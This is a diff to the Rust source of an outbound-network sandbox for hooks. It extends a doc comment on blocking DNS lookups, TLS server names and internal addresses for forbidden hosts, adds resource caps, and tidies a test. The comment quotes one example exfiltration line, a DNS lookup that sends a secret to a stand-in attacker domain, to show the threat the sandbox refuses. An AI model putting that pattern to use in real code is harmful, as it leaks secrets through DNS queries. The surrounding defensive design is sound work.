@@ -10,10 +10,14 @@
 //! redirection map apply to every connect exactly as to HTTP (a name the redirection map knows
 //! connects to its target; a forbidden host gets `ERR_HOOKGATE_EGRESS`, and nothing is
 //! connected), and to lookups (a DNS query for a forbidden name is refused too: the query itself
-//! would carry data out, `dns.lookup(secret + '.attacker.example')`). An address a lookup of an
-//! allowed name returned is allowed to connect to (a mailer resolves the host itself, then
-//! connects to the IP); a name in the redirection map resolves to an address of its own in
-//! 198.18.0.0/15 (RFC 2544's benchmarking range, never routed) that connects to its target. A
+//! would carry data out, `dns.lookup(secret + '.attacker.example')`), and so does a TLS
+//! `servername` (SNI is sent in clear). An address a hook's lookup of an allowed name returned
+//! is allowed to connect to by that hook for [`RESOLVED_TTL`] (a mailer resolves the host itself,
+//! then connects to the IP) — never a loopback, link-local or unspecified one unless listed
+//! exactly ([`is_internal`]); a name in the redirection map resolves to an address of its own in
+//! 198.18.0.0/15 (RFC 2544's benchmarking range, never routed) that connects to its target. What
+//! a hook can make the host hold is bounded: [`MAX_LOOKUPS`] lookups in the process, a call slot
+//! per lookup, [`MAX_QUEUED_BYTES`] / [`MAX_QUEUED_OPS`] queued per socket (ENOBUFS past them). A
 //! socket takes one of its call's outbound slots and one of the process's (`max_concurrent`)
 //! while it is open — refused at once when none is free, as Node's EMFILE is, rather than waiting:
 //! sockets are long-lived — and is closed at its call's deadline, or when its call ends (the
@@ -1357,8 +1361,7 @@ mod tests {
         assert!(egress.socket_target("a", &ip, 6379).is_ok(), "{ip}");
         let other = egress
             .socket_target("b", &ip, 6379)
-            .err()
-            .expect("another hook");
+            .expect_err("another hook");
         assert_eq!(other.code, "ERR_HOOKGATE_EGRESS");
     }
 
